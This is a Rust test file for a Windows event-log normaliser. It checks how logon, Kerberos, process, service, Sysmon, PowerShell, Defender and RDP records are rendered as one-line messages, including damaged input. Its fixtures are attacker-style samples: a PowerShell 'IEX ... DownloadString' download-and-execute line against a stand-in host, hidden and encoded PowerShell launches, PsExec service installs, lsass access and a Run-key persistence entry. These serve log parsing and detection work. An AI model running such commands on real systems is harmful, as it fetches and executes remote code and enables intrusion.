//! Hand-built records for every templated event, plus damaged and edge cases.

use super::{MSG_CAP, normalise};
use crate::model::{Fields, Norm};

const SEC: &str = "Microsoft-Windows-Security-Auditing";
const SYSMON: &str = "Microsoft-Windows-Sysmon";

/// A record as the EVTX ingest fills it: normalised System fields, System raw fields, then
/// the event's own data. The System `ProcessID` is deliberately a value no template wants.
fn rec(provider: &str, channel: &str, eid: &str, data: &[(&str, &str)]) -> Fields<'static> {
    let mut f = Fields::new();
    f.set(Norm::Provider, provider.to_owned());
    f.set(Norm::Channel, channel.to_owned());
    f.set(Norm::EventId, eid.to_owned());
    f.set(Norm::Host, "WS-042");
    for (k, v) in [
        ("Provider", provider),
        ("EventID", eid),
        ("Channel", channel),
        ("Computer", "WS-042"),
    ] {
        f.push_raw(k, v.to_owned());
    }
    f.push_raw("ProcessID", "9999");
    f.push_raw("ThreadID", "8888");
    for (k, v) in data {
        f.push_raw((*k).to_owned(), (*v).to_owned());
    }
    f
}

fn sec(eid: &str, data: &[(&str, &str)]) -> Fields<'static> {
    rec(SEC, "Security", eid, data)
}

fn sysmon(eid: &str, data: &[(&str, &str)]) -> Fields<'static> {
    rec(SYSMON, "Microsoft-Windows-Sysmon/Operational", eid, data)
}

/// Normalises, checks the message and the listed fields, and that a second run changes nothing.
fn check(mut f: Fields<'static>, msg: &str, norm: &[(Norm, &str)]) {
    normalise(&mut f);
    assert_eq!(f.get(Norm::Message), Some(msg));
    for (n, v) in norm {
        assert_eq!(f.get(*n), Some(*v), "field {}", n.name());
    }
    let before: Vec<(Norm, String)> = f.norm_iter().map(|(n, v)| (n, v.to_owned())).collect();
    normalise(&mut f);
    let after: Vec<(Norm, String)> = f.norm_iter().map(|(n, v)| (n, v.to_owned())).collect();
    assert_eq!(before, after, "not idempotent");
}

const SUBJECT: [(&str, &str); 3] = [
    ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
    ("SubjectUserName", "admin"),
    ("SubjectDomainName", "CORP"),
];

#[test]
fn logon_success_and_failure() {
    let base = [
        ("TargetUserName", "alice"),
        ("TargetDomainName", "CORP"),
        ("LogonType", "3"),
        ("WorkstationName", "WS-042"),
        ("IpAddress", "::ffff:10.1.2.3"),
        ("IpPort", "50123"),
        ("AuthenticationPackageName", "NTLM"),
        ("LmPackageName", "-"),
        ("ProcessId", "0x0"),
        ("ProcessName", "-"),
    ];
    check(
        sec("4624", &base),
        "4624 logon type 3 (network) CORP\\alice from 10.1.2.3 (WS-042) via NTLM",
        &[
            (Norm::User, "CORP\\alice"),
            (Norm::SrcIp, "10.1.2.3"),
            (Norm::SrcPort, "50123"),
            (Norm::Action, "success"),
            (Norm::Category, "auth"),
        ],
    );
    let mut failed = base.to_vec();
    failed.extend([("Status", "0xc000006d"), ("SubStatus", "0xc0000064")]);
    check(
        sec("4625", &failed),
        "4625 failed logon type 3 (network) CORP\\alice from 10.1.2.3 (WS-042) via NTLM: user name does not exist (0xc0000064)",
        &[(Norm::Action, "failure")],
    );
    // SubStatus 0x0: Status is the reason.
    let mut locked = base.to_vec();
    locked.extend([("Status", "0xC0000234"), ("SubStatus", "0x0")]);
    let mut f = sec("4625", &locked);
    normalise(&mut f);
    assert!(
        f.get(Norm::Message)
            .is_some_and(|m| m.ends_with(": account locked out (0xC0000234)"))
    );
    // A type Windows does not define still renders.
    let mut f = sec("4624", &[("TargetUserName", "x"), ("LogonType", "99")]);
    normalise(&mut f);
    assert_eq!(f.get(Norm::Message), Some("4624 logon type 99 (unknown) x"));
    // The System ProcessID must not leak into pid.
    assert_eq!(f.get(Norm::Pid), None);
}

#[test]
fn logoff_explicit_privileges() {
    let t = [
        ("TargetUserName", "alice"),
        ("TargetDomainName", "CORP"),
        ("TargetLogonId", "0x3e7a1"),
    ];
    check(
        sec("4634", &[t[0], t[1], t[2], ("LogonType", "10")]),
        "4634 logoff CORP\\alice type 10 (remote interactive) logon id 0x3e7a1",
        &[(Norm::User, "CORP\\alice"), (Norm::Action, "logoff")],
    );
    check(
        sec("4647", &t),
        "4647 user-initiated logoff CORP\\alice logon id 0x3e7a1",
        &[],
    );
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("TargetUserName", "bob"),
        ("TargetDomainName", "CORP"),
        ("TargetServerName", "SRV01"),
        ("TargetInfo", "SRV01"),
        ("ProcessId", "0x1f4"),
        ("ProcessName", "C:\\Windows\\System32\\runas.exe"),
        ("IpAddress", "-"),
        ("IpPort", "-"),
    ]);
    check(
        sec("4648", &d),
        "4648 explicit credentials for CORP\\bob by CORP\\admin to SRV01 process C:\\Windows\\System32\\runas.exe",
        &[
            (Norm::User, "CORP\\bob"),
            (Norm::Pid, "0x1f4"),
            (Norm::Process, "C:\\Windows\\System32\\runas.exe"),
        ],
    );
    let mut d = SUBJECT.to_vec();
    d.push(("PrivilegeList", "SeDebugPrivilege\r\n\t\t\tSeTcbPrivilege"));
    check(
        sec("4672", &d),
        "4672 special privileges to CORP\\admin: SeDebugPrivilege SeTcbPrivilege",
        &[(Norm::User, "CORP\\admin"), (Norm::Category, "auth")],
    );
}

#[test]
fn kerberos_and_ntlm() {
    let tgt = [
        ("TargetUserName", "alice"),
        ("TargetDomainName", "CORP.LOCAL"),
        ("ServiceName", "krbtgt"),
        ("TicketEncryptionType", "0x12"),
        ("Status", "0x0"),
        ("IpAddress", "::ffff:10.0.0.5"),
        ("IpPort", "49812"),
    ];
    check(
        sec("4768", &tgt),
        "4768 Kerberos TGT request for CORP.LOCAL\\alice service krbtgt from 10.0.0.5 enc AES256: success",
        &[(Norm::Action, "success"), (Norm::SrcIp, "10.0.0.5")],
    );
    let tgs = [
        ("TargetUserName", "alice@CORP.LOCAL"),
        ("TargetDomainName", "CORP.LOCAL"),
        ("ServiceName", "MSSQLSvc"),
        ("TicketEncryptionType", "0x17"),
        ("Status", "0x0"),
        ("IpAddress", "::ffff:10.0.0.5"),
    ];
    check(
        sec("4769", &tgs),
        "4769 Kerberos service ticket for alice@CORP.LOCAL to MSSQLSvc from 10.0.0.5 enc RC4: success",
        &[(Norm::User, "alice@CORP.LOCAL")],
    );
    let pre = [
        ("TargetUserName", "bob"),
        ("ServiceName", "krbtgt/CORP"),
        ("Status", "0x18"),
        ("IpAddress", "10.0.0.9"),
    ];
    check(
        sec("4771", &pre),
        "4771 Kerberos pre-auth failed for bob service krbtgt/CORP from 10.0.0.9: KDC_ERR_PREAUTH_FAILED (bad password) (0x18)",
        &[(Norm::Action, "failure")],
    );
    let ntlm = [
        ("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"),
        ("TargetUserName", "bob"),
        ("Workstation", "WS-7"),
        ("Status", "0xc000006a"),
    ];
    check(
        sec("4776", &ntlm),
        "4776 NTLM validation for bob from WS-7: bad password (0xc000006a)",
        &[(Norm::User, "bob"), (Norm::Action, "failure")],
    );
}

#[test]
fn process_events() {
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("NewProcessId", "0x1a2c"),
        ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
        ("TokenElevationType", "%%1937"),
        ("ProcessId", "0x77c"),
        ("CommandLine", "cmd.exe /c whoami"),
        ("TargetUserName", "-"),
        (
            "ParentProcessName",
            "C:\\Program Files\\Office\\WINWORD.EXE",
        ),
    ]);
    check(
        sec("4688", &d),
        "4688 process C:\\Windows\\System32\\cmd.exe: cmd.exe /c whoami (parent C:\\Program Files\\Office\\WINWORD.EXE) by CORP\\admin [elevated]",
        &[
            (Norm::Process, "C:\\Windows\\System32\\cmd.exe"),
            (Norm::Pid, "0x1a2c"),
            (Norm::Parent, "C:\\Program Files\\Office\\WINWORD.EXE"),
            (Norm::Cmdline, "cmd.exe /c whoami"),
            (Norm::Category, "process"),
        ],
    );
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("Status", "0x0"),
        ("ProcessId", "0x1a2c"),
        ("ProcessName", "C:\\Windows\\System32\\cmd.exe"),
    ]);
    check(
        sec("4689", &d),
        "4689 process exit C:\\Windows\\System32\\cmd.exe pid 0x1a2c by CORP\\admin",
        &[(Norm::Pid, "0x1a2c")],
    );
}

#[test]
fn services_and_tasks() {
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("ServiceName", "PSEXESVC"),
        ("ServiceFileName", "%SystemRoot%\\PSEXESVC.exe"),
        ("ServiceType", "0x10"),
        ("ServiceStartType", "3"),
        ("ServiceAccount", "LocalSystem"),
    ]);
    check(
        sec("4697", &d),
        "4697 service installed PSEXESVC: %SystemRoot%\\PSEXESVC.exe (demand start) as LocalSystem by CORP\\admin",
        &[
            (Norm::File, "%SystemRoot%\\PSEXESVC.exe"),
            (Norm::Category, "service"),
        ],
    );
    let xml = "<?xml version=\"1.0\"?>\r\n<Task><Actions><Exec>\r\n<Command>powershell.exe</Command>\r\n\
               <Arguments>-enc &quot;SQBFAFgA&quot; &amp; calc</Arguments></Exec></Actions></Task>";
    let mut d = SUBJECT.to_vec();
    d.extend([("TaskName", "\\Updater"), ("TaskContent", xml)]);
    check(
        sec("4698", &d),
        "4698 scheduled task created \\Updater by CORP\\admin: powershell.exe -enc \"SQBFAFgA\" & calc",
        &[(Norm::User, "CORP\\admin")],
    );
    let scm = "Service Control Manager";
    let d = [
        ("ServiceName", "evil"),
        ("ImagePath", "C:\\x.exe"),
        ("ServiceType", "user mode service"),
        ("StartType", "auto start"),
        ("AccountName", "LocalSystem"),
    ];
    check(
        rec(scm, "System", "7045", &d),
        "7045 service installed evil: C:\\x.exe (auto start) as LocalSystem",
        &[(Norm::File, "C:\\x.exe"), (Norm::Category, "service")],
    );
    let d = [("param1", "Windows Update"), ("param2", "running")];
    check(
        rec(scm, "System", "7036", &d),
        "7036 service Windows Update entered running state",
        &[],
    );
    let d = [
        ("param1", "Windows Defender"),
        ("param2", "auto start"),
        ("param3", "disabled"),
        ("param4", "WinDefend"),
    ];
    check(
        rec(scm, "System", "7040", &d),
        "7040 service Windows Defender start type changed from auto start to disabled",
        &[],
    );
}

#[test]
fn account_and_group_changes() {
    let target = [
        ("TargetUserName", "eve"),
        ("TargetDomainName", "CORP"),
        ("TargetSid", "S-1-5-21-9"),
    ];
    for (eid, msg, action) in [
        (
            "4720",
            "4720 account created CORP\\eve by CORP\\admin",
            "create",
        ),
        (
            "4722",
            "4722 account enabled CORP\\eve by CORP\\admin",
            "enable",
        ),
        (
            "4724",
            "4724 password reset attempt for CORP\\eve by CORP\\admin",
            "password-reset",
        ),
    ] {
        let mut d = target.to_vec();
        d.extend(SUBJECT);
        check(
            sec(eid, &d),
            msg,
            &[
                (Norm::User, "CORP\\eve"),
                (Norm::Action, action),
                (Norm::Category, "auth"),
            ],
        );
    }
    let mut d = target.to_vec();
    d.extend(SUBJECT);
    d.extend([
        ("PrivilegeList", "-"),
        ("SamAccountName", "-"),
        ("UserAccountControl", "%%2089"),
        ("PasswordLastSet", "%%1794"),
        ("HomeDirectory", "%%1793"),
    ]);
    check(
        sec("4738", &d),
        "4738 account changed CORP\\eve by CORP\\admin: UserAccountControl, PasswordLastSet",
        &[],
    );
    let mut d = vec![
        ("MemberName", "CN=Eve Smith\\, jr,OU=Users,DC=corp,DC=local"),
        ("MemberSid", "S-1-5-21-9"),
    ];
    d.extend([
        ("TargetUserName", "Domain Admins"),
        ("TargetDomainName", "CORP"),
    ]);
    d.extend(SUBJECT);
    check(
        sec("4728", &d),
        "4728 member Eve Smith\\, jr (S-1-5-21-9) added to global group CORP\\Domain Admins by CORP\\admin",
        &[
            (Norm::User, "Eve Smith\\, jr"),
            (Norm::Action, "add-member"),
        ],
    );
    let mut d = vec![("MemberName", "-"), ("MemberSid", "S-1-5-21-9")];
    d.extend([
        ("TargetUserName", "Administrators"),
        ("TargetDomainName", "Builtin"),
    ]);
    d.extend(SUBJECT);
    check(
        sec("4732", &d),
        "4732 member S-1-5-21-9 added to local group Builtin\\Administrators by CORP\\admin",
        &[(Norm::User, "S-1-5-21-9")],
    );
}

#[test]
fn shares_and_log_clearing() {
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("ObjectType", "File"),
        ("IpAddress", "10.0.0.8"),
        ("IpPort", "51000"),
        ("ShareName", "\\\\*\\C$"),
        ("ShareLocalPath", "\\??\\C:\\"),
        ("AccessMask", "0x1"),
    ]);
    check(
        sec("5140", &d),
        "5140 share accessed \\\\*\\C$ (\\??\\C:\\) by CORP\\admin from 10.0.0.8",
        &[
            (Norm::File, "\\\\*\\C$"),
            (Norm::SrcIp, "10.0.0.8"),
            (Norm::Category, "file"),
        ],
    );
    let mut d = SUBJECT.to_vec();
    d.extend([
        ("IpAddress", "10.0.0.8"),
        ("ShareName", "\\\\*\\ADMIN$"),
        ("RelativeTargetName", "PSEXESVC.exe"),
        ("AccessList", "%%1538\r\n\t\t\t\t%%4417\r\n\t\t\t\t"),
    ]);
    check(
        sec("5145", &d),
        "5145 share object \\\\*\\ADMIN$\\PSEXESVC.exe by CORP\\admin from 10.0.0.8 access READ_CONTROL WriteData",
        &[(Norm::File, "\\\\*\\ADMIN$\\PSEXESVC.exe")],
    );
    let el = "Microsoft-Windows-Eventlog";
    check(
        rec(el, "Security", "1102", &SUBJECT),
        "1102 Security log cleared by CORP\\admin",
        &[(Norm::Category, "log")],
    );
    // In 104 the UserData `Channel` (the cleared log) follows the System one.
    let d = [
        ("SubjectUserName", "admin"),
        ("SubjectDomainName", "CORP"),
        ("Channel", "Microsoft-Windows-PowerShell/Operational"),
        ("BackupPath", ""),
    ];
    check(
        rec(el, "System", "104", &d),
        "104 Microsoft-Windows-PowerShell/Operational log cleared by CORP\\admin",
        &[(Norm::User, "CORP\\admin"), (Norm::Channel, "System")],
    );
}

#[test]
fn sysmon_events() {
    let p = [
        ("ProcessId", "4321"),
        ("Image", "C:\\Windows\\System32\\cmd.exe"),
        (
            "CommandLine",
            "\"C:\\Windows\\System32\\cmd.exe\" /c whoami",
        ),
        ("User", "CORP\\bob"),
        ("IntegrityLevel", "High"),
        ("Hashes", "SHA256=AB12"),
        ("ParentProcessId", "1234"),
        ("ParentImage", "C:\\Program Files\\Office\\WINWORD.EXE"),
    ];
    check(
        sysmon("1", &p),
        "Sysmon 1 process \"C:\\Windows\\System32\\cmd.exe\" /c whoami (parent C:\\Program Files\\Office\\WINWORD.EXE) by CORP\\bob [High]",
        &[
            (Norm::Pid, "4321"),
            (Norm::Hash, "SHA256=AB12"),
            (Norm::User, "CORP\\bob"),
            (Norm::Category, "process"),
        ],
    );
    let net = [
        ("ProcessId", "3164"),
        ("Image", "C:\\Windows\\System32\\mshta.exe"),
        ("User", "CORP\\bob"),
        ("Protocol", "tcp"),
        ("Initiated", "true"),
        ("SourceIp", "10.0.2.15"),
        ("SourcePort", "49826"),
        ("DestinationIp", "151.101.0.133"),
        ("DestinationHostname", "cdn.example"),
        ("DestinationPort", "443"),
    ];
    check(
        sysmon("3", &net),
        "Sysmon 3 tcp 10.0.2.15:49826 -> 151.101.0.133:443 (cdn.example) by C:\\Windows\\System32\\mshta.exe (CORP\\bob)",
        &[
            (Norm::DstIp, "151.101.0.133"),
            (Norm::DstPort, "443"),
            (Norm::Proto, "tcp"),
            (Norm::Category, "network"),
        ],
    );
    let img = ("Image", "C:\\x\\a.exe");
    check(
        sysmon("5", &[("ProcessId", "7"), img]),
        "Sysmon 5 process terminated C:\\x\\a.exe pid 7",
        &[(Norm::Pid, "7")],
    );
    check(
        sysmon(
            "7",
            &[
                img,
                ("ImageLoaded", "C:\\x\\evil.dll"),
                ("Signed", "false"),
                ("SignatureStatus", "Unavailable"),
            ],
        ),
        "Sysmon 7 image loaded C:\\x\\evil.dll into C:\\x\\a.exe unsigned (Unavailable)",
        &[(Norm::File, "C:\\x\\evil.dll")],
    );
    let inj = [
        ("SourceProcessId", "11"),
        ("SourceImage", "C:\\x\\a.exe"),
        ("TargetImage", "C:\\Windows\\notepad.exe"),
        ("StartModule", "-"),
        ("StartFunction", "-"),
    ];
    check(
        sysmon("8", &inj),
        "Sysmon 8 remote thread C:\\x\\a.exe -> C:\\Windows\\notepad.exe",
        &[(Norm::Pid, "11")],
    );
    let acc = [
        ("SourceProcessId", "11"),
        ("SourceImage", "C:\\x\\a.exe"),
        ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
        ("GrantedAccess", "0x1010"),
    ];
    check(
        sysmon("10", &acc),
        "Sysmon 10 process access C:\\x\\a.exe -> C:\\Windows\\system32\\lsass.exe access 0x1010",
        &[(Norm::Process, "C:\\x\\a.exe")],
    );
    check(
        sysmon("11", &[img, ("TargetFilename", "C:\\Users\\bob\\dump.dmp")]),
        "Sysmon 11 file created C:\\Users\\bob\\dump.dmp by C:\\x\\a.exe",
        &[
            (Norm::File, "C:\\Users\\bob\\dump.dmp"),
            (Norm::Category, "file"),
        ],
    );
    let run = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd";
    check(
        sysmon(
            "12",
            &[("EventType", "CreateKey"), img, ("TargetObject", run)],
        ),
        &format!("Sysmon 12 registry CreateKey {run} by C:\\x\\a.exe"),
        &[(Norm::Category, "registry")],
    );
    check(
        sysmon(
            "13",
            &[
                ("EventType", "SetValue"),
                img,
                ("TargetObject", run),
                ("Details", "C:\\x\\a.exe"),
            ],
        ),
        &format!("Sysmon 13 registry SetValue {run} = C:\\x\\a.exe by C:\\x\\a.exe"),
        &[],
    );
    check(
        sysmon(
            "22",
            &[
                ("QueryName", "evil.example"),
                ("QueryStatus", "0"),
                ("QueryResults", "::ffff:1.2.3.4;"),
                img,
            ],
        ),
        "Sysmon 22 DNS evil.example -> ::ffff:1.2.3.4; by C:\\x\\a.exe",
        &[(Norm::Category, "dns")],
    );
    check(
        sysmon(
            "23",
            &[
                ("User", "CORP\\bob"),
                img,
                ("TargetFilename", "C:\\x\\a.ps1"),
                ("Hashes", "MD5=00"),
                ("Archived", "true"),
            ],
        ),
        "Sysmon 23 file deleted C:\\x\\a.ps1 by C:\\x\\a.exe (archived)",
        &[(Norm::Hash, "MD5=00"), (Norm::File, "C:\\x\\a.ps1")],
    );
}

#[test]
fn powershell_events() {
    let ps = "Microsoft-Windows-PowerShell";
    let op = "Microsoft-Windows-PowerShell/Operational";
    let sb = [
        ("MessageNumber", "1"),
        ("MessageTotal", "3"),
        (
            "ScriptBlockText",
            "\r\n  IEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\nWrite-Host done",
        ),
        ("ScriptBlockId", "{5a0f}"),
        ("Path", ""),
    ];
    check(
        rec(ps, op, "4104", &sb),
        "PowerShell 4104 script block 1/3: IEX (New-Object Net.WebClient).DownloadString('http://x/a') Write-Host done",
        &[
            (
                Norm::Cmdline,
                "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
            ),
            (Norm::Category, "process"),
        ],
    );
    let ctx = "        Severity = Informational\r\n        Host Application = powershell.exe -nop -w hidden\r\n        Command Name = Invoke-WebRequest\r\n        User = CORP\\bob\r\n";
    let d = [
        ("ContextInfo", ctx),
        ("UserData", ""),
        (
            "Payload",
            "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding",
        ),
    ];
    check(
        rec(ps, op, "4103", &d),
        "PowerShell 4103 pipeline Invoke-WebRequest by CORP\\bob: CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\" ParameterBinding",
        &[(Norm::Cmdline, "powershell.exe -nop -w hidden")],
    );
    let details = "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -enc SQBFAFgA\n\tEngineVersion=5.1\n";
    let d = [
        ("Data", "Available"),
        ("Data_1", "None"),
        ("Data_2", details),
    ];
    check(
        rec("PowerShell", "Windows PowerShell", "400", &d),
        "PowerShell 400 engine started host powershell.exe -enc SQBFAFgA",
        &[(Norm::Cmdline, "powershell.exe -enc SQBFAFgA")],
    );
    let d = [
        ("Data", "Stopped"),
        ("Data_1", "Available"),
        ("Data_2", details),
    ];
    check(
        rec("PowerShell", "Windows PowerShell", "403", &d),
        "PowerShell 403 engine stopped host powershell.exe -enc SQBFAFgA",
        &[],
    );
}

#[test]
fn defender_and_rdp() {
    let def = "Microsoft-Windows-Windows Defender";
    let op = "Microsoft-Windows-Windows Defender/Operational";
    let d = [
        ("Threat Name", "HackTool:Win32/Mimikatz"),
        ("Severity Name", "High"),
        ("Category Name", "Tool"),
        ("Path", "file:_C:\\Users\\bob\\m.exe; process:_pid:1"),
        ("Process Name", "Unknown"),
        ("Detection User", "CORP\\bob"),
        ("Action ID", "2"),
        ("Action Name", "%%809"),
        ("Error Code", "0x00000000"),
    ];
    check(
        rec(def, op, "1116", &d),
        "Defender 1116 detected HackTool:Win32/Mimikatz (High Tool) in C:\\Users\\bob\\m.exe user CORP\\bob",
        &[
            (Norm::File, "C:\\Users\\bob\\m.exe"),
            (Norm::Action, "detected"),
            (Norm::Category, "alert"),
        ],
    );
    check(
        rec(def, op, "1117", &d),
        "Defender 1117 action quarantine on HackTool:Win32/Mimikatz (High Tool) in C:\\Users\\bob\\m.exe user CORP\\bob",
        &[(Norm::Action, "quarantine"), (Norm::User, "CORP\\bob")],
    );
    let lsm = "Microsoft-Windows-TerminalServices-LocalSessionManager";
    let lop = "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational";
    let d = [
        ("User", "CORP\\alice"),
        ("SessionID", "2"),
        ("Address", "10.0.0.7"),
    ];
    check(
        rec(lsm, lop, "21", &d),
        "RDP 21 session logon CORP\\alice session 2 from 10.0.0.7",
        &[
            (Norm::SrcIp, "10.0.0.7"),
            (Norm::Action, "logon"),
            (Norm::Category, "auth"),
        ],
    );
    check(
        rec(lsm, lop, "24", &d),
        "RDP 24 session disconnected CORP\\alice session 2 from 10.0.0.7",
        &[],
    );
    let local = [
        ("User", "CORP\\alice"),
        ("SessionID", "1"),
        ("Address", "LOCAL"),
    ];
    let mut f = rec(lsm, lop, "25", &local);
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("RDP 25 session reconnected CORP\\alice session 1 from LOCAL")
    );
    assert_eq!(f.get(Norm::SrcIp), None, "LOCAL is not an address");
    let rcm = "Microsoft-Windows-TerminalServices-RemoteConnectionManager";
    let d = [
        ("Param1", "alice"),
        ("Param2", "CORP"),
        ("Param3", "10.0.0.7"),
    ];
    check(
        rec(
            rcm,
            "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            "1149",
            &d,
        ),
        "RDP 1149 user authenticated CORP\\alice from 10.0.0.7",
        &[(Norm::User, "CORP\\alice"), (Norm::SrcIp, "10.0.0.7")],
    );
}

#[test]
fn same_id_under_other_providers_is_generic() {
    // 104 from RdpCoreTS is not "log cleared"; event 1 from a non-Sysmon provider is not a process.
    let mut f = rec(
        "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
        "x/Operational",
        "104",
        &[("TimezoneBiasHour", "[1]")],
    );
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS 104: TimezoneBiasHour=[1]")
    );
    assert_eq!(f.get(Norm::Category), None);
    let mut f = rec(
        "Microsoft-Windows-Winsock-WS2HELP",
        "System",
        "1",
        &[("Image", "C:\\a.exe")],
    );
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("Microsoft-Windows-Winsock-WS2HELP 1: Image=C:\\a.exe")
    );
    assert_eq!(
        f.get(Norm::Process),
        Some("C:\\a.exe"),
        "generic field mapping"
    );
}

#[test]
fn generic_message_skips_identifiers_and_truncates() {
    let long = "v".repeat(100);
    let d = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "SYSTEM"),
        ("SubjectDomainName", "NT AUTHORITY"),
        ("SubjectLogonId", "0x3e7"),
        ("A", "1"),
        ("B", "-"),
        ("C", long.as_str()),
        ("D", "4"),
        ("E", "5"),
        ("F", "6"),
        ("G", "7"),
    ];
    let mut f = sec("4999", &d);
    normalise(&mut f);
    let want = format!(
        "{SEC} 4999: SubjectUserName=SYSTEM SubjectDomainName=NT AUTHORITY A=1 C={}… D=4 E=5 …",
        "v".repeat(60)
    );
    assert_eq!(f.get(Norm::Message), Some(want.as_str()));
    assert_eq!(f.get(Norm::User), Some("NT AUTHORITY\\SYSTEM"));
    // No data at all.
    let mut f = rec("Some-Provider", "Application", "7", &[]);
    normalise(&mut f);
    assert_eq!(f.get(Norm::Message), Some("Some-Provider 7"));
}

#[test]
fn damaged_records_never_panic_and_stay_one_line() {
    let huge = "A\u{2028}B\n\tC ".repeat(5000);
    let odd = [
        "",
        "-",
        "0x",
        "0xZZ",
        "\u{202e}evil",
        "é\r\n",
        "%%",
        "CN=",
        "CN=\\",
        "::ffff:",
        &huge,
    ];
    for eid in [
        "4624", "4625", "4634", "4648", "4672", "4688", "4689", "4697", "4698", "4720", "4728",
        "4738", "4768", "4769", "4771", "4776", "5140", "5145", "4662", "5136", "5156", "4663",
        "x", "",
    ] {
        for v in odd {
            let names = [
                "TargetUserName",
                "TargetDomainName",
                "Status",
                "SubStatus",
                "LogonType",
                "IpAddress",
                "MemberName",
                "TaskContent",
                "CommandLine",
                "NewProcessName",
                "ShareName",
                "RelativeTargetName",
                "AccessList",
                "Properties",
                "Protocol",
            ];
            let d: Vec<(&str, &str)> = names.iter().map(|n| (*n, v)).collect();
            for mut f in [
                sec(eid, &d),
                sysmon(eid, &d),
                rec("", "", eid, &d),
                rec("PowerShell", "", eid, &d),
            ] {
                normalise(&mut f);
                let m = f.get(Norm::Message).unwrap_or("");
                assert!(!m.is_empty());
                assert!(!m.contains(['\n', '\r', '\t', '\u{2028}']), "{m:?}");
                assert!(m.chars().count() <= MSG_CAP);
            }
        }
    }
}

#[test]
fn message_cap_keeps_a_char_boundary() {
    let cmd = "ü".repeat(2000);
    let mut f = sysmon(
        "1",
        &[
            ("Image", "C:\\a.exe"),
            ("CommandLine", &cmd),
            ("ParentImage", "C:\\p.exe"),
            ("User", "u"),
        ],
    );
    normalise(&mut f);
    let m = f.get(Norm::Message).unwrap_or("");
    // The command line is capped per value, so parent and user survive.
    assert!(m.ends_with("… (parent C:\\p.exe) by u"), "{m}");
    assert_eq!(
        f.get(Norm::Cmdline).map(str::len),
        Some(cmd.len()),
        "the field itself is not truncated"
    );
}
